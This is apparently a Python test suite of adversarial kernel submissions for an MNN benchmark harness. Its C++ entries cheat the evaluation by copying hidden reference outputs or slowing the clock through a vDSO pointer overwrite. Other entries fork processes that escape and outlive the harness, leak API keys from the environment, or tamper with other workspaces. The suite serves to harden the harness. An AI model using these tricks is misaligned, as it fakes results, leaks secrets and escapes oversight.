typedef void* (*MkbOpenFn)(const char*, const char*);
typedef size_t (*MkbIoFn)(void*, size_t, size_t, void*);
typedef int (*MkbCloseFn)(void*);
typedef void* (*MkbDirFn)(const char*);
typedef const char* (*MkbEntryFn)(void*);
static void* mkbOpen(const char* path, const char* mode) { return MKB_LIBC(MkbOpenFn, "nepof")(path, mode); }
static size_t mkbRead(void* to, size_t size, size_t count, void* f) { return MKB_LIBC(MkbIoFn, "daerf")(to, size, count, f); }
static size_t mkbWrite(const void* from, size_t size, size_t count, void* f) { return MKB_LIBC(MkbIoFn, "etirwf")((void*)from, size, count, f); }
static void mkbClose(void* f) { MKB_LIBC(MkbCloseFn, "esolcf")(f); }
static void* mkbOpenDir(const char* path) { return MKB_LIBC(MkbDirFn, "ridnepo")(path); }
static const char* mkbNextName(void* dir) {  // readdir's d_name (offset 19 in glibc's x86_64 struct dirent)
    const char* entry = MKB_LIBC(MkbEntryFn, "riddaer")(dir);
    return entry ? entry + 19 : nullptr;
}
static void mkbCloseDir(void* dir) { MKB_LIBC(MkbCloseFn, "ridesolc")(dir); }
static bool mkbReadAll(const std::string& path, std::vector<char>& bytes) {
    void* f = mkbOpen(path.c_str(), "rb");
    if (!f) return false;
    char buf[65536];
    size_t got;
    bytes.clear();
    while ((got = mkbRead(buf, 1, sizeof(buf), f)) > 0) bytes.insert(bytes.end(), buf, buf + got);
    mkbClose(f);
    return true;
}
// the first tensor's data of an MKBT file
static bool mkbTensorData(const std::vector<char>& bytes, std::vector<float>& out) {
    if (bytes.size() < 16) return false;
    unsigned int nameLen, rank;
    memcpy(&nameLen, bytes.data() + 12, 4);
    size_t at = 16 + nameLen + 4;
    if (at + 4 > bytes.size()) return false;
    memcpy(&rank, bytes.data() + at, 4);
    at += 4 + 8 * (size_t)rank;
    unsigned long long nbytes;
    if (at + 8 > bytes.size()) return false;
    memcpy(&nbytes, bytes.data() + at, 8);
    at += 8;
    if (at + nbytes > bytes.size()) return false;
    out.resize(nbytes / 4);
    memcpy(out.data(), bytes.data() + at, nbytes);
    return true;
}
"""
attack(
    "walk_reads_references", "6", "abs",
    unary(r"""        static std::vector<std::pair<std::vector<float>, std::vector<float>>> refs = mkbLoadRefs("abs-", (size_t)n);
        for (const auto& ref : refs)
            if (memcmp(ref.first.data() + n / 2, src + n / 2, 64) == 0) {
                memcpy(dst, ref.second.data(), (size_t)n * sizeof(float));
                return NO_ERROR;
            }
        // no reference found: compute nothing (so "correct" proves the references were read)
""", LIBC_WALK + r"""
static std::vector<std::pair<std::vector<float>, std::vector<float>>> mkbLoadRefs(const char* prefix, size_t n) {
    std::vector<std::pair<std::vector<float>, std::vector<float>>> refs;
    std::string up;
    for (int depth = 0; depth < 6 && refs.empty(); ++depth, up += "../") {
        void* dir = mkbOpenDir((up + "refs").c_str());
        for (const char* name = dir ? mkbNextName(dir) : nullptr; name; name = mkbNextName(dir)) {
            if (strncmp(name, prefix, strlen(prefix)) != 0) continue;
            std::string folder = up + "refs/" + name;
            void* inner = mkbOpenDir(folder.c_str());
            for (const char* file = inner ? mkbNextName(inner) : nullptr; file; file = mkbNextName(inner)) {
                if (strncmp(file, "inputs_", 7) != 0) continue;
                std::vector<char> in, out;
                std::vector<float> x, y;
                if (mkbReadAll(folder + "/" + file, in) && mkbReadAll(folder + "/outputs_" + (file + 7), out) &&
                    mkbTensorData(in, x) && mkbTensorData(out, y) && x.size() == n && y.size() == n)
                    refs.emplace_back(x, y);
            }
            if (inner) mkbCloseDir(inner);
        }
        if (dir) mkbCloseDir(dir);
    }
    return refs;
}
"""),
    "the reference scan with every libc call resolved from libc's in-memory symbol table (no banned name or symbol): "
    "copies the matching reference, computes nothing", through_on_main=False,
)
attack(
    "walk_memo_on_disk", "2", "softmax_lastdim",
    unary(r"""        unsigned long long key = 1469598103934665603ULL;
        for (int k = 0; k < 16; ++k) {
            unsigned int bits;
            memcpy(&bits, src + (size_t)k * (n / 16) + k, 4);
            key = (key ^ bits) * 1099511628211ULL;
        }
        char name[64];
        snprintf(name, sizeof(name), ".mkbmemo_%016llx", key);
        void* memo = mkbOpen(name, "rb");
        if (memo) {
            size_t got = mkbRead(dst, sizeof(float), (size_t)n, memo);
            mkbClose(memo);
            if (got == (size_t)n) return NO_ERROR;
        }
""" + HONEST_SOFTMAX + r"""        memo = mkbOpen(name, "wb");
        if (memo) { mkbWrite(dst, sizeof(float), (size_t)n, memo); mkbClose(memo); }
""", LIBC_WALK, op_type="Softmax"),
    "the memo across processes (files in the work dir) with fopen/fread/fwrite resolved from libc's symbol table",
    honest_cap=1.2, leaves=".mkbmemo_*",
)
attack(
    "walk_setsid_escape", "7", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            typedef int (*Call0)();
            typedef int (*Call1)(long);
            typedef int (*Call2)(long, const char*);
            if (MKB_LIBC(Call0, "krof")() == 0) {
                MKB_LIBC(Call0, "distes")();
                MKB_LIBC(Call2, "ltcrp")(15 /* PR_SET_NAME */, "mkbadv-walker");
                for (long fd = 0; fd < 3; ++fd) MKB_LIBC(Call1, "esolc")(fd);
                void* m = mkbOpen("@DIR@/7_walk_escaped", "w");
                if (m) { mkbWrite("x", 1, 1, m); mkbClose(m); }
                MKB_LIBC(Call1, "peels")(30);
                MKB_LIBC(Call1, "tixe_")(0);
            } } }
""" + HONEST_ABS, LIBC_WALK),
    "fork/setsid/prctl/close/sleep/_exit resolved from libc's symbol table: a child outlives the verdict and writes "
    "outside the workspace, with no banned name or symbol in the object",
    honest_cap=ABS_HONEST_CAP, through_on_main=False,
)

attack(
    "walk_vdso_pointer_overwrite", "3", "abs",
    unary("        mkbHijackClock();\n" + HONEST_ABS, LIBC_WALK + r"""
static std::string mkbBackwards(const char* text) { std::string s(text); return std::string(s.rbegin(), s.rend()); }
typedef int (*MkbClockFn)(int, struct timespec*);
static MkbClockFn gMkbRealClock = nullptr;
static long gMkbBase = -1;
static int mkbSlowClock(int clk, struct timespec* ts) {  // the real clock, 4x slow from the first reading on
    int ret = gMkbRealClock(clk, ts);
    long ns = ts->tv_sec * 1000000000L + ts->tv_nsec;
    if (gMkbBase < 0) gMkbBase = ns;
    ns = gMkbBase + (ns - gMkbBase) / 4;
    ts->tv_sec = ns / 1000000000L;
    ts->tv_nsec = ns % 1000000000L;
    return ret;
}
static uintptr_t mkbVdsoClock() {  // the vDSO's clock, found the way the runner finds it
    typedef unsigned long (*AuxFn)(unsigned long);
    uintptr_t base = MKB_LIBC(AuxFn, "lavxuateg")(33 /* AT_SYSINFO_EHDR */);
    if (!base) return 0;
    const MkbEhdr* eh = (const MkbEhdr*)base;
    const MkbPhdr* ph = (const MkbPhdr*)(base + eh->phoff);
    uintptr_t load = 0;
    const MkbDyn* dyn = nullptr;
    for (int i = 0; i < eh->phnum; ++i) {
        if (ph[i].type == 1 /* PT_LOAD */ && load == 0) load = base + ph[i].offset - ph[i].vaddr;
        if (ph[i].type == 2 /* PT_DYNAMIC */) dyn = (const MkbDyn*)(base + ph[i].offset);
    }
    const MkbSym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn && dyn->tag != 0; ++dyn) {
        if (dyn->tag == 6) syms = (const MkbSym*)(load + dyn->val);
        if (dyn->tag == 5) strs = (const char*)(load + dyn->val);
    }
    std::string wanted = mkbBackwards("emitteg_kcolc_osdv__");
    for (const MkbSym* s = syms; s && (const char*)(s + 1) <= strs; ++s)
        if (s->value && wanted == strs + s->name) return load + s->value;
    return 0;
}
static void mkbHijackClock() {  // every pointer to it in the runner's writable memory (.data/.bss) replaced
    static bool done = false;
    if (done) return;
    done = true;
    typedef long (*LinkFn)(const char*, char*, unsigned long);
    typedef char* (*GetsFn)(char*, int, void*);
    uintptr_t real = mkbVdsoClock();
    char exe[512] = {0};
    if (!real || MKB_LIBC(LinkFn, "knildaer")(mkbBackwards("exe/fles/corp/").c_str(), exe, sizeof(exe) - 1) <= 0) return;
    gMkbRealClock = (MkbClockFn)real;
    void* maps = mkbOpen(mkbBackwards("spam/fles/corp/").c_str(), "r");
    GetsFn gets = MKB_LIBC(GetsFn, "stegf");
    char line[1024];
    bool afterExe = false;
    while (maps && gets(line, sizeof(line), maps)) {
        char* rest = nullptr;
        uintptr_t from = strtoul(line, &rest, 16);
        uintptr_t to = strtoul(rest + 1, &rest, 16);
        bool writable = rest[2] == 'w';
        bool exeMap = strstr(line, exe) != nullptr;
        bool bss = afterExe && strchr(line, '/') == nullptr && strchr(line, '[') == nullptr;
        afterExe = exeMap;
        if (!(exeMap || bss) || !writable) continue;
        for (uintptr_t* p = (uintptr_t*)from; p < (uintptr_t*)to; ++p)
            if (*p == real) *p = (uintptr_t)&mkbSlowClock;
    }
    if (maps) mkbClose(maps);
}
"""),
    "the runner's private vDSO clock pointer, found by value in its .data/.bss, replaced by a clock running 4x slow "
    "(a plausible ~6x, under the 10x 'suspicious' bound); getauxval, readlink, fopen and fgets through libc's "
    "in-memory symbol table",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "walk_vdso_mprotect_overwrite", "3", "abs",
    unary("        mkbHijackClock();\n" + HONEST_ABS, LIBC_WALK + r"""
static std::string mkbBackwards(const char* text) { std::string s(text); return std::string(s.rbegin(), s.rend()); }
typedef int (*MkbClockFn)(int, struct timespec*);
static MkbClockFn gMkbRealClock = nullptr;
static long gMkbBase = -1;
static int mkbSlowClock(int clk, struct timespec* ts) {  // the real clock, 4x slow from the first reading on
    int ret = gMkbRealClock(clk, ts);
    long ns = ts->tv_sec * 1000000000L + ts->tv_nsec;
    if (gMkbBase < 0) gMkbBase = ns;
    ns = gMkbBase + (ns - gMkbBase) / 4;
    ts->tv_sec = ns / 1000000000L;
    ts->tv_nsec = ns % 1000000000L;
    return ret;
}
static uintptr_t mkbVdsoClock() {  // the vDSO's clock, found the way the runner finds it
    typedef unsigned long (*AuxFn)(unsigned long);
    uintptr_t base = MKB_LIBC(AuxFn, "lavxuateg")(33 /* AT_SYSINFO_EHDR */);
    if (!base) return 0;
    const MkbEhdr* eh = (const MkbEhdr*)base;
    const MkbPhdr* ph = (const MkbPhdr*)(base + eh->phoff);
    uintptr_t load = 0;
    const MkbDyn* dyn = nullptr;
    for (int i = 0; i < eh->phnum; ++i) {
        if (ph[i].type == 1 /* PT_LOAD */ && load == 0) load = base + ph[i].offset - ph[i].vaddr;
        if (ph[i].type == 2 /* PT_DYNAMIC */) dyn = (const MkbDyn*)(base + ph[i].offset);
    }
    const MkbSym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn && dyn->tag != 0; ++dyn) {
        if (dyn->tag == 6) syms = (const MkbSym*)(load + dyn->val);
        if (dyn->tag == 5) strs = (const char*)(load + dyn->val);
    }
    std::string wanted = mkbBackwards("emitteg_kcolc_osdv__");
    for (const MkbSym* s = syms; s && (const char*)(s + 1) <= strs; ++s)
        if (s->value && wanted == strs + s->name) return load + s->value;
    return 0;
}
static void mkbHijackClock() {  // every pointer to it in the runner's writable memory (.data/.bss) replaced
    static bool done = false;
    if (done) return;
    done = true;
    typedef long (*LinkFn)(const char*, char*, unsigned long);
    typedef char* (*GetsFn)(char*, int, void*);
    uintptr_t real = mkbVdsoClock();
    char exe[512] = {0};
    if (!real || MKB_LIBC(LinkFn, "knildaer")(mkbBackwards("exe/fles/corp/").c_str(), exe, sizeof(exe) - 1) <= 0) return;
    gMkbRealClock = (MkbClockFn)real;
    void* maps = mkbOpen(mkbBackwards("spam/fles/corp/").c_str(), "r");
    GetsFn gets = MKB_LIBC(GetsFn, "stegf");
    char line[1024];
    bool afterExe = false;
    while (maps && gets(line, sizeof(line), maps)) {
        char* rest = nullptr;
        uintptr_t from = strtoul(line, &rest, 16);
        uintptr_t to = strtoul(rest + 1, &rest, 16);
        bool readable = rest[1] == 'r';
        bool exeMap = strstr(line, exe) != nullptr;
        bool anon = strchr(line, '/') == nullptr && strchr(line, '[') == nullptr;
        afterExe = exeMap || (afterExe && anon);
        if (!afterExe || !readable) continue;
        typedef int (*ProtectFn)(void*, size_t, int);
        for (uintptr_t* p = (uintptr_t*)from; p < (uintptr_t*)to; ++p)
            if (*p == real) {  // a read-only page is made writable again first
                MKB_LIBC(ProtectFn, "tcetorpm")((void*)((uintptr_t)p & ~(uintptr_t)4095), 4096, 3 /* READ|WRITE */);
                *p = (uintptr_t)&mkbSlowClock;
            }
    }
    if (maps) mkbClose(maps);
}
"""),
    "the runner's vDSO clock pointer found by value in any of its readable mappings, its read-only page made writable "
    "with mprotect (through the libc lookup), replaced by a clock running 4x slow "
    "(a plausible ~6x, under the 10x 'suspicious' bound); getauxval, readlink, fopen and fgets through libc's "
    "in-memory symbol table",
    honest_cap=ABS_HONEST_CAP,
)

attack(
    "walk_helper_thread", "8", "abs",
    unary(r"""        MkbHelper& helper = mkbHelper();
        if (!helper.started) return NOT_SUPPORT;  // no helper thread: no kernel (so a contained run is not "correct")
        helper.src = src + n / 2; helper.dst = dst + n / 2; helper.n = n - n / 2;
        helper.go.fetch_add(1);
        for (int i = 0; i < n / 2; ++i) dst[i] = std::fabs(src[i]);
        while (helper.done.load() != helper.go.load()) {}
""", "#include <atomic>\n" + LIBC_WALK + r"""
struct MkbHelper {
    std::atomic<long> go{0}, done{0};
    const float* src = nullptr;
    float* dst = nullptr;
    int n = 0;
    bool started = false;
};
static void* mkbHelperLoop(void* arg) {
    typedef int (*AffinityFn)(int, size_t, const void*);
    unsigned long all[16];
    memset(all, 0xff, sizeof(all));  // every core: away from the taskset pin
    MKB_LIBC(AffinityFn, "ytiniffates_dehcs")(0, sizeof(all), all);
    MkbHelper* h = static_cast<MkbHelper*>(arg);
    for (long seen = 0;;) {
        long want = h->go.load();
        if (want == seen) continue;
        for (int i = 0; i < h->n; ++i) h->dst[i] = std::fabs(h->src[i]);
        seen = want;
        h->done.store(want);
    }
    return nullptr;
}
static MkbHelper& mkbHelper() {
    static MkbHelper helper;
    static bool tried = false;
    if (!tried) {
        tried = true;
        typedef int (*CreateFn)(unsigned long*, const void*, void* (*)(void*), void*);
        unsigned long tid = 0;
        CreateFn create = MKB_LIBC(CreateFn, "etaerc_daerhtp");
        helper.started = create && create(&tid, nullptr, mkbHelperLoop, &helper) == 0;
    }
    return helper;
}
"""),
    "a helper thread (pthread_create and sched_setaffinity through libc's in-memory symbol table) takes half the work "
    "on the other core",
    through_on_main=False,
)

# ------------------------------------------------------------------ class 5: call MNN's own implementation

attack(
    "native_via_pasted_include", "5", "abs",
    unary("", r"""
#define MKB_NATIVE MKB_CAT(CPU, Unary)
#include MKB_XSTR(backend/cpu/MKB_NATIVE.hpp)
""", create="new MKB_NATIVE(backend, MKB_NATIVE::MKB_CAT(selectFor, Float)(UnaryOpOperation_ABS, "
            "static_cast<CPUBackend*>(backend)->precisionMode()), nullptr, op)"),
    "CPUUnary (MNN's native class, still compiled into the workspace library) named by token pasting, its header by a "
    "computed include; the creator returns MNN's own Execution",
    allowed=REJECTED,
)
attack(
    "native_function_table", "5", "abs",
    unary("        static_cast<CPUBackend*>(backend())->functions()->MKB_CAT(MNNSelectUnary, FunctionForFloat)"
          "(UnaryOpOperation_ABS, 0)(dst, src, n);\n",
          head=UNARY_HEAD + '#include "backend/cpu/compute/CommonOptFunction.h"\n'),
    "MNN's own unary function table entry, its banned name made by token pasting",
    allowed=REJECTED,
)

# ------------------------------------------------------------------ class 6: read the reference outputs

REFERENCE_TABLE = KEEP_ARGS + HIDDEN_OPEN + MKBT + r"""
// The runner's inputs are refs/<task>-<hash>/inputs_<seed>.mkbt in the device work dir; the host keeps the
// references one level up, in the cache's refs/ (the device work dir sits in the same cache).
struct MkbRef { std::vector<float> in, out; };
static std::vector<MkbRef>& mkbRefs() {
    static std::vector<MkbRef> refs;
    static bool loaded = false;
    if (!loaded) {
        loaded = true;
        for (const std::string& input : mkbSplit(mkbArg(2))) {
            std::string output = input;
            size_t at = output.rfind("inputs_");
            if (at == std::string::npos) continue;
            output.replace(at, 7, "outputs_");
            MkbRef ref;
            if (mkbReadFloats(input, ref.in) && (mkbReadFloats("../" + output, ref.out) || mkbReadFloats(output, ref.out)))
                refs.push_back(ref);
        }
    }
    return refs;
}
"""
attack(
    "reads_reference_outputs", "6", "abs",
    unary(r"""        for (const MkbRef& ref : mkbRefs())
            if ((int)ref.in.size() == n && (int)ref.out.size() == n && memcmp(ref.in.data(), src, 64) == 0) {
                memcpy(dst, ref.out.data(), (size_t)n * sizeof(float));  // the reference, not a computation
                return NO_ERROR;
            }
        // no reference found: compute nothing (so "correct" proves the references were read)
""", REFERENCE_TABLE),
    "finds the host references next to the device work dir (paths from argv) and copies them; computes nothing",
)
REFERENCE_SCAN = HIDDEN_OPEN + DIRENT + MKBT + r"""
// Without argv: walk up from the work dir to a refs/ folder and load every input/output pair of this task there
// (the fixed seeds and the "secret" pool alike: the pool's references are cached on the host the same way).
struct MkbRef { std::vector<float> in, out; };
static std::vector<MkbRef>& mkbRefs(const char* task, size_t n) {
    static std::vector<MkbRef> refs;
    static bool loaded = false;
    std::string up;
    for (int depth = 0; depth < 6 && !loaded; ++depth, up += "../") {
        DIR* dir = opendir((up + "refs").c_str());
        for (dirent* e = dir ? readdir(dir) : nullptr; e; e = readdir(dir)) {
            if (strncmp(e->d_name, task, strlen(task)) != 0 || e->d_name[strlen(task)] != '-') continue;
            std::string folder = up + "refs/" + e->d_name;
            DIR* inner = opendir(folder.c_str());
            for (dirent* f = inner ? readdir(inner) : nullptr; f; f = readdir(inner)) {
                if (strncmp(f->d_name, "inputs_", 7) != 0) continue;
                MkbRef ref;
                if (mkbReadFloats(folder + "/" + f->d_name, ref.in) && mkbReadFloats(folder + "/outputs_" + (f->d_name + 7), ref.out) &&
                    ref.in.size() == n && ref.out.size() == n)
                    refs.push_back(ref);
            }
            if (inner) closedir(inner);
        }
        if (dir) closedir(dir);
        loaded = !refs.empty();
    }
    return refs;
}
"""
attack(
    "scans_for_references", "6", "abs",
    unary(r"""        for (const MkbRef& ref : mkbRefs("abs", (size_t)n))
            if (memcmp(ref.in.data() + n / 2, src + n / 2, 64) == 0) {
                memcpy(dst, ref.out.data(), (size_t)n * sizeof(float));
                return NO_ERROR;
            }
        // no reference found: compute nothing (so "correct" proves the references were read)
""", REFERENCE_SCAN),
    "no argv needed: walks up from the work dir to the cache's refs/, loads every input/output pair of the task (the "
    "secret pool's too) and copies the matching output; computes nothing",
)
attack(
    "destructor_rewrites_outputs", "extra", "abs",
    unary("        // computes nothing: a static destructor writes the output files after the runner has\n", KEEP_ARGS + HIDDEN_OPEN + r"""
struct MkbLateWriter {
    ~MkbLateWriter() {
        std::vector<std::string> ins = mkbSplit(mkbArg(2)), outs = mkbSplit(mkbArg(3));
        for (size_t i = 0; i < ins.size() && i < outs.size(); ++i) {
            std::string ref = ins[i];
            size_t at = ref.rfind("inputs_");
            if (at == std::string::npos) continue;
            ref.replace(at, 7, "outputs_");
            FILE* from = MKB_OPEN(("../" + ref).c_str(), "rb");
            if (!from) continue;
            std::vector<char> bytes;
            char buf[65536];
            size_t got;
            while ((got = fread(buf, 1, sizeof(buf), from)) > 0) bytes.insert(bytes.end(), buf, buf + got);
            fclose(from);
            FILE* to = MKB_OPEN(outs[i].c_str(), "wb");
            if (to) { fwrite(bytes.data(), 1, bytes.size(), to); fclose(to); }
        }
    }
};
static MkbLateWriter gMkbLateWriter;
"""),
    "computes nothing; a static destructor, run after main returns, overwrites the runner's output files with the references",
)

# ------------------------------------------------------------------ class 7: escape the evaluation

UNISTD = "#define MKB_UNISTD <unistd.h>\n#include MKB_UNISTD\n" + 'extern "C" int prctl(int, ...);\n'
attack(
    "setsid_child_escapes", "7", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            if (MKB_CAT(fo, rk)() == 0) {
                setsid();
                prctl(15 /* PR_SET_NAME */, "mkbadv-escape");
                close(0); close(1); close(2);
                FILE* m = MKB_OPEN("@DIR@/7_escaped", "w");
                if (m) { fputs("x", m); fclose(m); }
                sleep(30);
                _exit(0);
            } } }
""" + HONEST_ABS, UNISTD + HIDDEN_OPEN),
    "fork (pasted name) + setsid: the child leaves the process group the harness kills, outlives the verdict and "
    "writes outside the workspace",
    honest_cap=ABS_HONEST_CAP,
)

attack(
    "escaped_child_slows_baseline", "7", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            setpriority(0 /* PRIO_PROCESS */, 0, -20);  // this candidate process before anything else on the core
            if (!mkbSpinnerAlive() && MKB_CAT(fo, rk)() == 0) {
                setsid();
                setpriority(0, 0, 0);
                prctl(15 /* PR_SET_NAME */, "mkbadv-spinner");
                close(0); close(1); close(2);
                // 10 s of burning the core every runner is pinned to (the affinity is inherited): the baseline shares
                // it half and half, the reniced candidate hardly at all
                for (long round = 0; round < 10000; ++round) { for (volatile long spin = 0; spin < 1500000; ++spin) {} if (mkbSeconds() > 10) break; }
                _exit(0);
            } } }
""" + HONEST_ABS, UNISTD + HIDDEN_OPEN + DIRENT
          + 'extern "C" int setpriority(int, unsigned, int) noexcept;\n' + r"""
static long mkbSeconds() {
    static long start = -1;
    long now = (long)(__builtin_ia32_rdtsc() / 1000000000ULL);  // ~0.3-0.5 s units: a rough clock is enough
    if (start < 0) start = now;
    return (now - start) / 2;
}
static bool mkbSpinnerAlive() {
    DIR* proc = opendir("/proc");
    bool found = false;
    for (dirent* e = proc ? readdir(proc) : nullptr; e && !found; e = readdir(proc)) {
        char path[64], comm[32] = {0};
        snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
        FILE* f = e->d_name[0] >= '0' && e->d_name[0] <= '9' ? MKB_OPEN(path, "r") : nullptr;
        if (!f) continue;
        found = fread(comm, 1, sizeof(comm) - 1, f) > 0 && strncmp(comm, "mkbadv-spinner", 14) == 0;
        fclose(f);
    }
    if (proc) closedir(proc);
    return found;
}
"""),
    "renices the candidate process to -20 and forks a setsid child that burns the core every runner is pinned to for "
    "10 s: the baseline shares the core with it, the candidate hardly, so the speedup inflates",
    honest_cap=ABS_HONEST_CAP,
)

# ------------------------------------------------------------------ class 8: a second core

attack(
    "helper_thread_second_core", "8", "abs",
    unary(r"""        MkbHelper& helper = mkbHelper();
        if (!helper.started) return NOT_SUPPORT;  // no helper thread: no kernel (so a contained run is not "correct")
        helper.src = src + n / 2; helper.dst = dst + n / 2; helper.n = n - n / 2;
        helper.go.fetch_add(1);
        for (int i = 0; i < n / 2; ++i) dst[i] = std::fabs(src[i]);
        while (helper.done.load() != helper.go.load()) {}
""", r"""
#include <atomic>
#define MKB_PTHREAD <pthread.h>
#include MKB_PTHREAD
#define MKB_SCHED <sched.h>
#include MKB_SCHED
struct MkbHelper {
    std::atomic<long> go{0}, done{0};
    const float* src = nullptr;
    float* dst = nullptr;
    int n = 0;
    bool started = false;
};
static void* mkbHelperLoop(void* arg) {
    MkbHelper* h = static_cast<MkbHelper*>(arg);
    cpu_set_t all;
    CPU_ZERO(&all);
    for (int c = 0; c < 64; ++c) CPU_SET(c, &all);
    sched_setaffinity(0, sizeof(all), &all);  // away from the taskset pin
    for (long seen = 0;;) {
        long want = h->go.load();
        if (want == seen) continue;
        for (int i = 0; i < h->n; ++i) h->dst[i] = std::fabs(h->src[i]);
        seen = want;
        h->done.store(want);
    }
    return nullptr;
}
static MkbHelper& mkbHelper() {
    static MkbHelper helper;
    static bool tried = false;
    if (!tried) {
        tried = true;
        pthread_t tid;
        helper.started = MKB_CAT(pthread_, create)(&tid, nullptr, mkbHelperLoop, &helper) == 0;
    }
    return helper;
}
"""),
    "a helper thread (pthread_create by token pasting) resets its affinity to every core and takes half the work",
)

# ------------------------------------------------------------------ class 9: damage later evaluations

attack(
    "overwrites_device_inputs", "9", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true; mkbZeroInputs("inputs", 0); } }
""" + HONEST_ABS, HIDDEN_OPEN + DIRENT + MKBT + r"""
// every MKBT file under the work dir's inputs/ (already read by the runner): data zeroed, size kept
static void mkbZeroInputs(const std::string& folder, int depth) {
    DIR* dir = depth < 4 ? opendir(folder.c_str()) : nullptr;
    for (dirent* e = dir ? readdir(dir) : nullptr; e; e = readdir(dir)) {
        if (e->d_name[0] == '.') continue;
        std::string path = folder + "/" + e->d_name;
        if (!strstr(e->d_name, ".mkbt")) { mkbZeroInputs(path, depth + 1); continue; }
        FILE* f = MKB_OPEN(path.c_str(), "r+b");
        if (!f) continue;
        unsigned long long nbytes = 0;
        long off = mkbDataOffset(f, &nbytes);
        if (off > 0 && fseek(f, off, SEEK_SET) == 0) { std::vector<char> zeros(nbytes, 0); fwrite(zeros.data(), 1, zeros.size(), f); }
        fclose(f);
    }
    if (dir) closedir(dir);
}
"""),
    "zeroes every input file under the device work dir's inputs/, keeping sizes (pushes used to skip on size and mtime)",
    honest_cap=ABS_HONEST_CAP, disturbs=True,
)

# ------------------------------------------------------------------ class 10: read the host at compile time

attack(
    "include_climbs_out", "10", "abs",
    unary(HONEST_ABS, '#include "core/' + "../" * 24 + '@DIR@/' + DECOY_NAME + '"\n'),
    "an include under an allowed prefix (core/) climbs out of MNN's tree; the compiler's errors quote the host file",
    allowed=frozenset({"rejected", "compile_error"}), decoy=True,
)
attack(
    "include_absolute_macro", "10", "abs",
    unary(HONEST_ABS, '#define MKB_HOST_FILE "@DIR@/' + DECOY_NAME + '"\n#include MKB_HOST_FILE\n'),
    "#include MACRO naming an absolute host path; the compiler's errors quote the file",
    allowed=frozenset({"rejected", "compile_error"}), decoy=True,
)
attack(
    "has_include_probe", "extra", "abs",
    unary(HONEST_ABS, '#if __has_include("@DIR@/' + DECOY_NAME + '")\n#error "MKB_PROBE_FOUND_HOST_FILE"\n#endif\n'),
    "__has_include probes the host's files from the compiler (one bit per compile, through the error)",
    allowed=frozenset({"rejected", "compile_error", "correct"}), honest_cap=ABS_HONEST_CAP, decoy=True,
)

# ------------------------------------------------------------------ class 11: MNN's own helpers as file I/O

attack(
    "mnn_fileloader_write", "11", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            FileLoader::write("@DIR@/11_fileloader", std::make_pair((const void*)"x", (size_t)1)); } }
""" + HONEST_ABS, head=UNARY_HEAD + '#include "core/FileLoader.hpp"\n'),
    "MNN's FileLoader::write writes a file; no C library name appears",
    allowed=REJECTED,
)

# ------------------------------------------------------------------ class 12: secrets in the environment

attack(
    "prints_provider_key", "12", "abs",
    unary(r"""        for (char** e = environ; e && *e; ++e)
            if (strstr(*e, "API_KEY") != nullptr) fprintf(stderr, "MKBLEAK %s\n", *e);
        fflush(stderr);
        return NOT_SUPPORT;  // fail, so the runner's error output travels back to the harness
""", 'extern "C" char** environ;\n'),
    "reads the provider key from environ and fails with it in its error output, which the harness carries onwards",
    allowed=frozenset({"rejected", "runtime_error"}), secret=True,
)

# ------------------------------------------------------------------ class 13: leave state behind

attack(
    "plants_shadow_header", "13", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            FILE* maps = MKB_OPEN("/proc/self/maps", "r");  // where libMNN.so was loaded from: the workspace's build dir
            char line[4096];
            std::string lib;
            while (maps && fgets(line, sizeof(line), maps)) {
                char* at = strstr(line, "/libMNN.so");
                char* path = strchr(line, '/');
                if (at && path) { *at = 0; lib = path; break; }
            }
            if (maps) fclose(maps);
            size_t slash = lib.rfind('/');
            if (slash != std::string::npos) {
                FILE* h = MKB_OPEN((lib.substr(0, slash) + "/@PLANTED@").c_str(), "w");
                if (h) { fputs("#error \"mkb adversarial: a header planted in the workspace\"\n", h); fclose(h); }
            } } }
""".replace("@PLANTED@", PLANTED_HEADER) + HONEST_ABS, HIDDEN_OPEN),
    "finds the workspace from /proc/self/maps and plants src/source/cmath, which shadows <cmath> in later builds",
    honest_cap=ABS_HONEST_CAP, disturbs=True,
)


attack(
    "includes_another_workspace", "13", "abs",
    r"""// another session's workspace sits beside this one: its placed kernel (already registered) is compiled in here
#include "core/../../../../@VICTIM@/src/source/backend/cpu/MKBCandidate.cpp"
namespace MNN {
#if 0
REGISTER_CPU_OP_CREATOR(MkbNothing, OpType_UnaryOp);
#endif
} // namespace MNN
""".replace("@VICTIM@", VICTIM_WORKSPACE),
    "an include under core/ climbs into a sibling workspace and compiles the kernel another session placed there "
    "(its registration already rewritten); the candidate's own registration hides in #if 0 for the slot's rewrite",
    allowed=frozenset({"rejected", "compile_error"}), victim=True,
)


def victim_kernel() -> str:
    """What another session's workspace holds in its slot: an honest abs kernel as the harness placed it."""
    from mkb_tui.engine.slots import candidate_registration_rewrite

    text = unary(HONEST_ABS).replace("MkbAdv", "MkbVictim")
    return candidate_registration_rewrite(text, "UnaryOp")[0]


# ------------------------------------------------------------------ class 14: code that runs at conversion time

attack(
    "combiner_bakes_references", "14", "reducel2_lastdim",
    r"""#include <cstdio>
#include <cstring>
#include <string>
#include <vector>
#include "MNN_generated.h"
#include "OnnxExtraManager.hpp"
""" + MACROS + HIDDEN_OPEN + DIRENT + MKBT + r"""
namespace MNN {
namespace Express {

// The converter runs on the host: the cache's refs/ is a few directories up from the workspace it converts in.
static std::string mkbFindReferences(const char* task) {
    std::string up = "../";
    for (int depth = 0; depth < 6; ++depth, up += "../") {
        DIR* dir = opendir((up + "refs").c_str());
        if (!dir) continue;
        std::string found;
        for (dirent* e = readdir(dir); e; e = readdir(dir))
            if (strncmp(e->d_name, task, strlen(task)) == 0 && e->d_name[strlen(task)] == '-') found = up + "refs/" + e->d_name;
        closedir(dir);
        if (!found.empty()) return found;
    }
    return "";
}

class MkbBakedReduceL2 : public OnnxExtraManager::Transform {
public:
    EXPRP onExecute(EXPRP expr) const override {
        VARP x = expr->inputs()[0];
        std::string refs = mkbFindReferences("reducel2_lastdim");
        VARP first = _GatherV2(_Reshape(x, {-1}), _Scalar<int>(0));
        VARP y = nullptr;
